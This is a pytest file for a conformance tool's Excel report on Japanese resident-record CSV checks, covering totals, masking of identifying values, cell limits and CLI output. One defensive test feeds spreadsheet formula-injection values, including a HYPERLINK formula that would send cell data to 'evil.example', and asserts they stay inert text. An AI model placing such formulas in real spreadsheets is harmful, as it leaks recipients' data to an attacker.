"""The Excel report read back with openpyxl: its sheets, totals and evidence equal the result, the findings
sheet lists the listed findings one for one, nothing identifying or executable gets in, same bytes twice."""

from __future__ import annotations

import io
import json
import re
import zipfile
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner, Result
from helpers import make_finding, make_schema, xlsx_text

from conformance.cli import main, validate_cmd
from conformance.core.evidence import FileEvidence
from conformance.core.findings import Finding, Severity
from conformance.core.messages import Message, Quoted, params_of
from conformance.engines.inputs import SkippedInput
from conformance.reports import coverage, xlsx
from conformance.reports.collector import Collector, ValidationResult
from conformance.reports.csv_report import HEADERS
from conformance.reports.html import LABELS as PAGE_LABELS
from conformance.reports.writers import FORMATS, ReportOptions, get_writer
from conformance.reports.xlsx_cells import LABELS, MAX_CELL, cell_text
from conformance.reports.xlsx_summary import FILE_COLUMNS
from conformance.schema.model import SchemaSet
from tests.conftest import DATA

E, W, I = Severity.ERROR, Severity.WARNING, Severity.INFO  # noqa: E741
JST = timezone(timedelta(hours=9))
A, B = "住民記録_住民.csv", "個人住民税_課税.csv"
IDS = frozenset({"氏名"})
KNOWN = frozenset({"氏名", "方書", "続柄", "備考"})
MASK = ReportOptions(identifying=IDS, known_items=KNOWN)
SHOW = ReportOptions(show_values=True, identifying=IDS, known_items=KNOWN)
SECRET = "秘密山田太郎"
EVIDENCE = FileEvidence(1234, "ab" * 32, "2024-03-31T00:00:00+00:00", "csv", "CP932", True, "CRLF")


def schema() -> SchemaSet:
    return make_schema(IDS)


def crafted(max_per_rule: int | None = 1000) -> ValidationResult:
    """A: C1 on 氏名 lines 2–151 (errors, value SECRET), F15 on 方書 lines 2–11 (warnings), X4 info line 5,
    F12 𠮷 on 氏名 lines 20–21, F13 U+E000 on 方書 line 22; B: a record finding with no item. A has evidence
    (declared CP932); a skipped entry and a rule that could not run."""
    c = Collector(max_per_rule=max_per_rule)
    c.start_file(A, "住民記録_住民")
    c.start_file(B, "個人住民税_課税")
    c.add_rows(A, 200)
    c.add_rows(B, 3)
    c.describe_file(A, EVIDENCE)
    for line in range(2, 152):
        c.add(make_finding(A, line, "氏名", "C1", E, "必須項目が空です。", "Required item is NULL.", SECRET))
    for line in range(2, 12):
        c.add(make_finding(A, line, "方書", "F15", W, "値の先頭に空白があります。", "Leading.", " 見本"))
    c.add(make_finding(A, 5, "続柄", "X4", I, "世帯主のいない世帯です。", "No head.", None))
    for line in (20, 21):
        c.add(make_finding(A, line, "氏名", "F12", W, "範囲外の漢字です。", "Ideograph outside.", "𠮷田"))
    c.add(make_finding(A, 22, "方書", "F13", E, "外字です。", "PUA.", "\ue000荘"))
    c.add(make_finding(B, None, None, "F3", E, "CSV形式", "CSV dialect", "a,b"))
    c.not_checked("X21", B)
    return c.finish(
        schema=schema(),
        started=datetime(2024, 4, 1, 9, 0, 0, tzinfo=JST),
        finished=datetime(2024, 4, 1, 9, 0, 2, tzinfo=JST),
        inputs=["data/"],
        settings_summary={},
        skipped=[SkippedInput("data/メモ.txt", "extension", params_of({"readable": ".csv"}))],
    )


def book(result: ValidationResult, opts: ReportOptions = MASK, **kw: Any) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(xlsx.render(result, opts, **kw)))


def rows(sheet: Any, start: int = 1) -> list[list[Any]]:
    """The sheet's rows from ``start`` (1-based), trailing empty cells dropped."""
    out = []
    for row in sheet.iter_rows(min_row=start, values_only=True):
        cells = list(row)
        while cells and cells[-1] is None:
            cells.pop()
        out.append(cells)
    return out


def labelled(sheet: Any) -> dict[str, Any]:
    """Column A label → column B value, for the label–value lines of the summary."""
    return {r[0]: r[1] for r in rows(sheet) if len(r) >= 2 and isinstance(r[0], str)}


def table(sheet: Any, header: list[str]) -> list[list[Any]]:
    """The rows of the table under the row ``header``, up to the blank row after it, padded to its width."""
    all_rows = rows(sheet)
    start = all_rows.index(header)
    out = []
    for r in all_rows[start + 1 :]:
        if not r:
            break
        out.append(r + [None] * (len(header) - len(r)))
    return out


def ja(key: str) -> str:
    return (LABELS.get(key) or PAGE_LABELS[key])[0]


def test_registered_with_three_sheets_and_their_headers() -> None:
    assert "xlsx" in FORMATS and get_writer("xlsx") is xlsx.write
    wb = book(crafted())
    assert wb.sheetnames == ["概要", "指摘", "外字"]
    assert rows(wb["指摘"])[1] == list(HEADERS["ja"])
    assert rows(wb["外字"])[1] == [
        "文字",
        "符号位置",
        "Unicode名",
        "種別",
        "規則",
        "値の数",
        "出現数",
        "最初の出現箇所",
    ]
    files_header = [ja(k) for k in FILE_COLUMNS]
    assert files_header[:3] == ["ファイル", "レイアウト", "行数"] and files_header[-4:-1] == [
        "SHA-256",
        "文字コード",
        "改行",
    ]
    assert files_header in rows(wb["概要"])
    assert not set(LABELS) & set(PAGE_LABELS)  # a label of the workbook never hides one of the page


def test_summary_totals_equal_the_result() -> None:
    result = crafted(max_per_rule=100)
    summary = book(result)["概要"]
    lines = labelled(summary)
    totals = result.totals
    assert (
        [lines["誤り"], lines["警告"], lines["情報"], lines["計"]]
        == [totals.by_severity[E], totals.by_severity[W], totals.by_severity[I], totals.total]
        == [152, 12, 1, 165]
    )
    assert lines["一覧"] == len(result.findings) == 115
    per_rule = table(summary, ["規則", "名称", "誤り", "警告", "情報", "計", "一覧"])
    assert per_rule == [
        [r, coverage_title(r), rt.by_severity[E], rt.by_severity[W], rt.by_severity[I], rt.count, rt.listed]
        for r, rt in totals.by_rule.items()
    ]
    assert [r[0] for r in per_rule] == ["F3", "F12", "F13", "F15", "C1", "X4"]
    assert table(summary, ["ファイル", "規則", "名称", "件数"]) == [
        [f, r, coverage_title(r), n] for (f, r), n in totals.by_file_rule.items()
    ]
    assert any("規則ごとに先頭 100 件まで" in str(r[1]) for r in rows(summary) if len(r) > 1)


def coverage_title(rule: str) -> str:
    from conformance.rules.catalogue import RULES

    return RULES[rule].title_ja


def test_summary_states_verdict_evidence_and_what_was_not_checked() -> None:
    result = crafted()
    summary = book(result)["概要"]
    lines = labelled(summary)
    assert lines["判定"] == "不適合"
    verdict = summary["B2"]
    assert verdict.font.b and verdict.font.sz == 20 and verdict.font.color.rgb.endswith("9C0006")
    assert summary["B3"].value == coverage.VERDICT_RULES.ja
    assert lines["スキーマセット"] == coverage.schema_origin(result, "ja")
    assert lines["標準"] == "標準 0.1" and lines["入力"] == "data/"
    assert lines["開始"] == "2024-04-01T09:00:00+09:00" and lines["終了"] == "2024-04-01T09:00:02+09:00"
    assert lines["ツール"].startswith("conformance ")
    assert lines["値の表示"] == ja("masked_note")
    files = table(summary, [ja(k) for k in FILE_COLUMNS])
    assert files == [
        [
            A,
            "住民記録_住民",
            200,
            151,
            12,
            1,
            164,
            1234,
            "ab" * 32,
            "CP932（指定）",
            "CRLF",
            EVIDENCE.modified,
        ],
        [B, "個人住民税_課税", 3, 1, 0, 0, 1, None, None, None, None, None],
    ]
    all_rows = rows(summary)
    at = all_rows.index(["検査しなかったファイル（1件）"])
    assert all_rows[at + 1] == ["data/メモ.txt", "読めない形式のファイルです（読める形式: .csv）"]
    at = all_rows.index(["検査できなかった規則（1件）"])
    assert (
        all_rows[at + 1][0].startswith("X21 ")
        and all_rows[at + 1][1] == "必要なファイルがこの実行にありません"
    )


def test_nothing_left_out_says_none_and_a_conforming_run_is_green() -> None:
    c = Collector()
    c.start_file("a.csv", "L")
    c.add_rows("a.csv", 5)
    r = c.finish(
        schema=schema(),
        started=datetime(2024, 1, 1),
        finished=datetime(2024, 1, 1),
        inputs=["a.csv"],
        settings_summary={},
    )
    wb = book(r)
    summary = rows(wb["概要"])
    assert summary[1][:2] == ["判定", "適合"] and wb["概要"]["B2"].font.color.rgb.endswith("006100")
    for heading in ("検査しなかったファイル（0件）", "検査できなかった規則（0件）"):
        assert summary[summary.index([heading]) + 1] == ["なし"]
    assert rows(wb["指摘"])[2:] == [] and rows(wb["外字"])[0] == [ja("gaiji_none")]


def test_findings_rows_are_the_listed_findings_in_order() -> None:
    result = crafted()
    sheet = book(result, SHOW)["指摘"]
    words = {E: "誤り", W: "警告", I: "情報"}
    expected = [
        [f.file, f.line, f.item, f.rule, words[f.severity], SHOW.message(f), SHOW.shown(f.value, f.item)]
        for f in result.findings
    ]
    got = [r + [None] * (7 - len(r)) for r in rows(sheet, 3)]
    assert got == expected and len(got) == 165
    fills = {r[4].value: r[4].fill.fgColor.rgb[-6:] for r in sheet.iter_rows(min_row=3)}
    assert fills == {"誤り": "FFC7CE", "警告": "FFEB9C", "情報": "DDEBF7"}
    assert sheet["A1"].value == "指摘 165 件のうち 165 件を報告の順に掲載しています。"


def test_findings_sheet_is_filterable_frozen_fitted_and_prints_one_page_wide() -> None:
    sheet = book(crafted())["指摘"]
    assert sheet.freeze_panes == "A3" and sheet.auto_filter.ref == "A2:G167"
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.paperSize == 9
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.page_setup.fitToWidth in (None, 1) and sheet.page_setup.fitToHeight == 0  # None: Excel's 1
    width = {c: sheet.column_dimensions[c].width for c in "ABCDEFG"}
    assert width["A"] >= len(A) * 2 - 4 and width["F"] > width["D"]  # wide characters count two


def test_capped_listing_is_stated_and_counts_stay_exact() -> None:
    result = crafted(max_per_rule=100)
    note = book(result)["指摘"]["A1"].value
    assert note == (
        "指摘 165 件のうち 115 件を報告の順に掲載しています。"
        "一覧は規則ごとに先頭 100 件までです。件数はすべての指摘を数えた正確な値です（概要を参照）。"
    )


def test_excel_row_limit_is_kept_and_stated(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx, "MAX_FINDING_ROWS", 10)
    result = crafted()
    sheet = book(result)["指摘"]
    assert len(rows(sheet, 3)) == 10 and sheet.auto_filter.ref == "A2:G12"
    limit = "Excel の行数の上限（1,048,576 行）のため、一覧 165 件のうち先頭 10 件までです。"
    assert sheet["A1"].value.endswith(limit)


def test_the_real_row_limit_leaves_two_rows() -> None:
    from conformance.reports import xlsx_cells

    assert xlsx_cells.MAX_FINDING_ROWS == xlsx_cells.EXCEL_ROWS - 2 == 1_048_574


def test_cells_are_cut_at_excels_limit() -> None:
    long_name = "長" * 40_000 + ".csv"
    c = Collector()
    c.add(make_finding(long_name, 2, "備考", "F15", W, "x", "x", "v"))
    r = c.finish(
        schema=schema(),
        started=datetime(2024, 1, 1),
        finished=datetime(2024, 1, 1),
        inputs=[],
        settings_summary={},
    )
    cell = book(r)["指摘"]["A3"].value
    assert len(cell) == MAX_CELL and cell.endswith("…") and cell.startswith("長長")
    astral = cell_text("𠮷" * 20_000)  # two UTF-16 units each: Excel counts those
    assert len(astral.encode("utf-16-le")) // 2 <= MAX_CELL and astral.endswith("…")
    assert cell_text("a" * MAX_CELL) == "a" * MAX_CELL


def leaky_result() -> ValidationResult:
    """Identifying data in a value, a quoted message parameter, and an item name that is not a layout item."""
    message = Message("C6.t", "「{value}」はコード表にありません", "{value} is not in the code table")
    quoted = params_of({"value": Quoted(SECRET + "引用", "氏名")})
    c = Collector()
    c.start_file(A, "住民記録_住民")
    c.add(Finding(A, 2, "氏名", "C6", E, message, quoted, SECRET))
    c.add(make_finding(A, 3, SECRET + "列", "F4", E, "列", "column", SECRET + "値"))
    c.add(make_finding(A, 4, None, "F3", E, "行", "record", SECRET + "行"))
    return c.finish(
        schema=schema(),
        started=datetime(2024, 1, 1),
        finished=datetime(2024, 1, 1),
        inputs=["d/"],
        settings_summary={},
    )


def test_no_identifying_value_anywhere_unless_shown() -> None:
    result = leaky_result()
    for lang in ("ja", "en"):
        text = xlsx_text(xlsx.render(result, ReportOptions(lang=lang, identifying=IDS, known_items=KNOWN)))
        assert SECRET not in text, lang
    shown = xlsx_text(xlsx.render(result, SHOW))
    for secret in (SECRET, SECRET + "引用", SECRET + "列", SECRET + "値", SECRET + "行"):
        assert secret in shown


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+1",
        "@SUM(A1)",
        "-2",
        "http://evil.example",
        "0123",
    ],
)
def test_formula_link_and_number_lookalikes_stay_strings(value: str) -> None:
    c = Collector()
    c.start_file(A, "住民記録_住民")
    c.add(make_finding(A, 2, "備考", "F15", W, value, value, value))
    data = xlsx.render(
        c.finish(
            schema=schema(),
            started=datetime(2024, 1, 1),
            finished=datetime(2024, 1, 1),
            inputs=[value],
            settings_summary={},
        ),
        SHOW,
    )
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        sheets = [archive.read(n).decode() for n in names if n.startswith("xl/worksheets/sheet")]
    assert not any("<f>" in s or "<f " in s or "hyperlink" in s for s in sheets)
    assert not any("hyperlink" in n or (n.endswith(".rels") and "External" in xlsx_text(data)) for n in names)
    cells = openpyxl.load_workbook(io.BytesIO(data))["指摘"][3]
    assert [(cells[i].value, cells[i].data_type) for i in (5, 6)] == [(value, "s"), (value, "s")]


def test_gaiji_sheet_is_the_inventory() -> None:
    result = crafted()
    sheet = book(result)["外字"]
    assert rows(sheet)[0] == [ja("gaiji_note")]
    assert (
        rows(sheet, 3)
        == [
            [
                e.glyph,
                e.codes,
                e.name,
                ja(f"kind_{e.kind}"),
                e.rule,
                e.values,
                e.occurrences,
                "; ".join(loc.label() for loc in e.locations),
            ]
            for e in result.gaiji
        ]
        == [
            ["\ue000", "U+E000", "<private-use-E000>", "外字（私用領域）", "F13", 1, 1, f"{A}:22 方書"],
            [
                "𠮷",
                "U+20BB7",
                "CJK UNIFIED IDEOGRAPH-20BB7",
                "範囲外の漢字",
                "F12",
                2,
                2,
                f"{A}:20 氏名; {A}:21 氏名",
            ],
        ]
    )
    font = sheet["A3"].font
    assert font.sz == 16 and font.charset == 128 and font.name
    assert sheet.freeze_panes == "A3" and sheet.auto_filter.ref == "A2:H4"


def test_english_labels_throughout() -> None:
    result = crafted(max_per_rule=100)
    wb = book(result, ReportOptions(lang="en", identifying=IDS, known_items=KNOWN))
    assert wb.sheetnames == ["Summary", "Findings", "Gaiji"]
    assert rows(wb["Findings"])[1] == list(HEADERS["en"])
    assert {r[4] for r in rows(wb["Findings"], 3)} == {"error", "warning", "info"}
    lines = labelled(wb["Summary"])
    assert lines["Verdict"] == "does not conform" and lines["Total"] == 165 and lines["Listed"] == 115
    assert wb["Summary"]["B3"].value == coverage.VERDICT_RULES.en
    labels = [c for row in rows(wb["Summary"]) for c in row[:1]] + rows(wb["Findings"])[:2][0]
    labels += rows(wb["Gaiji"])[1] + [r[3] for r in rows(wb["Gaiji"], 3)]
    japanese = re.compile("[\u3040-\u30ff\u4e00-\u9fff]")  # but 外字 is the term in English too
    data_cells = {A, B, "data/メモ.txt"}  # file names are data, not labels
    assert [
        lab
        for lab in labels
        if isinstance(lab, str)
        and japanese.search(lab.replace("外字", ""))
        and lab not in data_cells
        and not lab.startswith("X21")
    ] == []


def test_same_result_same_bytes_dated_with_the_run() -> None:
    result = crafted()
    first, second = xlsx.render(result, MASK), xlsx.render(result, MASK)
    assert first == second
    core = zipfile.ZipFile(io.BytesIO(first)).read("docProps/core.xml").decode()
    assert '<dcterms:created xsi:type="dcterms:W3CDTF">2024-04-01T00:00:00Z</dcterms:created>' in core


def test_binary_and_text_streams() -> None:
    result = crafted()
    data = xlsx.render(result, MASK)
    binary = io.BytesIO()
    xlsx.write(result, binary, MASK)
    raw = io.BytesIO()
    text = io.TextIOWrapper(raw, encoding="utf-8")
    text.write("")
    xlsx.write(result, text, MASK)  # a piped stdout: the bytes under it
    assert binary.getvalue() == raw.getvalue() == data
    with pytest.raises(TypeError, match="binary stream"):
        xlsx.write(result, io.StringIO(), MASK)


# --- the command line ----------------------------------------------------------------------------------

INVALID = DATA / "spec_examples" / "住民記録_住民.invalid.csv"


def run(*args: str | Path) -> Result:
    result = CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)
    assert "Traceback" not in result.output
    return result


def summary_counts(data: bytes) -> dict[str, Any]:
    return labelled(openpyxl.load_workbook(io.BytesIO(data))["概要"])


def test_validate_writes_xlsx_to_a_file_a_folder_and_a_pipe(tmp_path: Path) -> None:
    out = tmp_path / "報告.xlsx"
    r = run("validate", INVALID, "--format", "xlsx", "-o", out)
    assert r.exit_code == 1 and f"written: {out}" in r.output
    folder = tmp_path / "結果"
    assert run("validate", INVALID, "--format", "html,csv,xlsx", "--output-dir", folder).exit_code == 1
    summary = json.loads((folder / "findings.summary.json").read_text(encoding="utf-8"))
    counts = summary_counts((folder / "findings.xlsx").read_bytes())
    totals = summary["totals"]
    assert counts["計"] == totals["findings"] == 57 and counts["誤り"] == totals["by_severity"]["error"] == 41
    piped = run("validate", INVALID, "--format", "xlsx")  # CliRunner's stdout is not a terminal
    assert piped.stdout_bytes.startswith(b"PK\x03\x04") and summary_counts(piped.stdout_bytes)["計"] == 57
    untimed = {"開始", "終了"}
    from_file, from_pipe = summary_counts(out.read_bytes()), summary_counts(piped.stdout_bytes)
    assert {k: v for k, v in from_file.items() if k not in untimed} == {
        k: v for k, v in from_pipe.items() if k not in untimed
    }


def test_validate_refuses_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(validate_cmd, "_stdout_is_terminal", lambda: True)
    r = run("validate", INVALID, "--format", "xlsx")
    assert r.exit_code == 2 and "a xlsx report cannot go to a terminal" in r.output


def test_report_renders_an_earlier_run_as_xlsx(tmp_path: Path) -> None:
    findings = tmp_path / "f.jsonl"
    assert run("validate", INVALID, "--format", "jsonl", "-o", findings).exit_code == 1
    out = tmp_path / "r.xlsx"
    assert run("report", findings, "--format", "xlsx", "-o", out).exit_code == 0
    lines = summary_counts(out.read_bytes())
    assert lines["計"] == 57 and lines["値の表示"] == ja("values_as_written")
    piped = run("report", findings, "--format", "xlsx")
    assert piped.exit_code == 0 and piped.stdout_bytes == out.read_bytes()


def test_report_refuses_a_terminal(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    findings = tmp_path / "f.jsonl"
    assert run("validate", INVALID, "--format", "jsonl", "-o", findings).exit_code == 1
    monkeypatch.setattr(validate_cmd, "_stdout_is_terminal", lambda: True)
    r = run("report", findings, "--format", "xlsx")
    assert r.exit_code == 2 and "a xlsx report cannot go to a terminal: write it with -o FILE" in r.output
    assert r.stdout_bytes == b""
    assert run("report", findings, "--format", "xlsx", "-o", tmp_path / "r.xlsx").exit_code == 0
